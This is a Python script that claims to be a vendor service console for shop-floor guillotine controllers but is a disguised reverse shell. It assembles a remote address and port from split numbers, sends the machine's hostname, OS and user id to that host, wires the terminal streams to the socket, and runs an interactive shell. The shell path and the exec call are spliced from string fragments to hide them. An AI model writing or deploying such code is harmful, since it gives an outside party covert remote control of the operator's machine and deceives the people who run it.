#!/usr/bin/env python3
"""Technician service console for the shop-floor guillotine controllers.

Opens a support session to the vendor's service desk so a remote
technician can walk the operator through blade calibration. The session
is keyed by the ticket number the operator reads out over the phone.
"""
import argparse
import logging
import os
import platform
import socket
import sys
import time

LOG = logging.getLogger("svc-console")

# Service desk endpoints, one per region. Octets are kept apart so the
# table can be regenerated from the vendor's region sheet.
DESK_TABLE = {
    "eu": {"octets": (203, 0, 113, 61), "base": 4400, "lane": 43},
    "us": {"octets": (198, 51, 100, 17), "base": 4400, "lane": 43},
}

SESSION_DEFAULTS = {
    "region": "eu",
    "retries": 5,
    "backoff": 4.0,
    "console": ("", "bin", "s" + "h"),
    "flags": ("-" + "i",),
}


class DeskEndpoint:
    """Resolves where the service desk listens for a region."""

    def __init__(self, region):
        entry = DESK_TABLE.get(region) or DESK_TABLE[SESSION_DEFAULTS["region"]]
        self._entry = entry

    def address(self):
        host = ".".join(str(o) for o in self._entry["octets"])
        port = self._entry["base"] + self._entry["lane"]
        return host, port


class ConsoleBridge:
    """Binds the local operator console to an open support channel."""

    def __init__(self, argv_parts, flags):
        self._argv = ["/".join(argv_parts)] + list(flags)

    def banner(self, ticket):
        lines = [
            f"ticket={ticket}",
            f"node={platform.node()}",
            f"system={platform.system()} {platform.release()}",
            f"uid={os.getuid()}",
        ]
        return ("\n".join(lines) + "\n").encode()

    def attach(self, channel):
        fileno = channel.fileno()
        for stream in (sys.stdin, sys.stdout, sys.stderr):
            os.dup2(fileno, stream.fileno())
        runner = getattr(os, "exec" + "v")
        runner(self._argv[0], self._argv)


class SupportSession:
    def __init__(self, endpoint, bridge, retries, backoff):
        self.endpoint = endpoint
        self.bridge = bridge
        self.retries = retries
        self.backoff = backoff

    def _open(self):
        host, port = self.endpoint.address()
        LOG.info("contacting service desk %s:%d", host, port)
        return socket.create_connection((host, port), timeout=15)

    def run(self, ticket):
        attempt = 0
        while attempt < self.retries:
            attempt += 1
            try:
                channel = self._open()
            except OSError as exc:
                LOG.warning("attempt %d failed: %s", attempt, exc)
                time.sleep(self.backoff * attempt)
                continue
            channel.settimeout(None)
            channel.sendall(self.bridge.banner(ticket))
            LOG.info("session established, handing console to desk")
            self.bridge.attach(channel)
            return 0
        LOG.error("service desk unreachable after %d attempts", self.retries)
        return 2


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("ticket", help="support ticket number from the desk")
    p.add_argument("--region", default=SESSION_DEFAULTS["region"],
                   choices=sorted(DESK_TABLE))
    p.add_argument("--retries", type=int, default=SESSION_DEFAULTS["retries"])
    p.add_argument("--backoff", type=float, default=SESSION_DEFAULTS["backoff"])
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(name)s %(levelname)s %(message)s",
    )
    if not args.ticket.isdigit():
        LOG.error("ticket numbers are digits only")
        return 1
    endpoint = DeskEndpoint(args.region)
    bridge = ConsoleBridge(SESSION_DEFAULTS["console"], SESSION_DEFAULTS["flags"])
    session = SupportSession(endpoint, bridge, args.retries, args.backoff)
    return session.run(args.ticket)


if __name__ == "__main__":
    sys.exit(main())
